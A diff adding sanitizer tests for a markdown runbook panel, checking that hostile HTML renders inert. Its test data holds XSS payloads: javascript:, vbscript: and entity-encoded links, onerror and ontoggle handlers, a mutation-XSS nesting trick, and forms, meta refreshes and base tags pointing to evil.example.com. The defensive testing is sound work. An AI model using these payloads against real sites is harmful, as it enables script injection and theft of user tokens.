@@ -227,6 +227,103 @@ and [mail](mailto:oncall@example.com) and [spaced](  javascript:alert(1))
     expect((window as { pwned?: boolean }).pwned).toBeUndefined();
   });
 
+  describe('renders hostile markdown inert', () => {
+    /** Nothing in the rendered runbook can run script, load a frame or leave http(s). */
+    function expectInert(content: HTMLElement) {
+      expect(
+        content.querySelectorAll(
+          'script, iframe, frame, object, embed, form, base, meta, link, style',
+        ),
+      ).toHaveLength(0);
+      // GitHub's schema keeps task-list checkboxes, disabled.
+      for (const input of Array.from(content.querySelectorAll('input'))) {
+        expect(input).toHaveAttribute('type', 'checkbox');
+        expect(input).toBeDisabled();
+      }
+      for (const element of Array.from(content.querySelectorAll('*'))) {
+        for (const attribute of Array.from(element.attributes)) {
+          expect(attribute.name).not.toMatch(/^on/i);
+          if (
+            ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(
+              attribute.name,
+            )
+          ) {
+            expect(attribute.value).toMatch(/^(https?:|#|$)/i);
+          }
+        }
+      }
+      expect((window as { pwned?: boolean }).pwned).toBeUndefined();
+    }
+
+    it.each([
+      [
+        'a style tag and a style attribute',
+        '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>',
+        'cover',
+      ],
+      [
+        'a form posting elsewhere',
+        '<form action="https://evil.example.com"><input name="token"><button formaction="javascript:alert(1)">send</button></form>',
+        'send',
+      ],
+      [
+        'object and embed',
+        '<object data="https://evil.example.com/x.swf">object</object><embed src="https://evil.example.com/x.swf">',
+        'object',
+      ],
+      [
+        'a meta refresh and a base href',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example.com"><base href="https://evil.example.com/">after base',
+        'after base',
+      ],
+      ['a vbscript: link', '<a href="vbscript:msgbox(1)">vb</a>', 'vb'],
+      [
+        'an entity-encoded javascript: link',
+        '<a href="javascript&#58;alert(1)">encoded</a> [md](&#106;avascript:alert(1))',
+        'encoded',
+      ],
+      [
+        'a details element with ontoggle',
+        '<details open ontoggle="window.pwned = true"><summary>toggle</summary></details>',
+        'toggle',
+      ],
+      [
+        'markup nested to confuse the sanitizer',
+        '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = true">',
+        'Runbook',
+      ],
+      [
+        'an svg with a script link',
+        '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
+        'Runbook',
+      ],
+      [
+        'a table of 200 rows, each cell hostile',
+        `| a | b |\n|---|---|\n${'| 1 | <img src=x onerror="window.pwned = true"> |\n'.repeat(
+          200,
+        )}`,
+        'Runbook',
+      ],
+    ])('%s', async (_, fragment, text) => {
+      await renderPanel(
+        respondWith(
+          runbookFixture({
+            markdown: `# Runbook\n\n${fragment}\n\n## After\n`,
+            headings: [
+              { id: 'runbook', text: 'Runbook', level: 1 },
+              { id: 'after', text: 'After', level: 2 },
+            ],
+          }),
+        ),
+      );
+      // By text, not role: computing roles over a large table takes seconds.
+      await screen.findByText('After', { selector: 'h2' });
+      const content = screen.getByTestId('lambda-ops-runbook-content');
+      expectInert(content);
+      expect(content).toHaveTextContent(text);
+    });
+  });
+
   it('resolves relative links against the runbook and keeps in-page links', async () => {
     await renderPanel(respondWith(runbookFixture()));
 
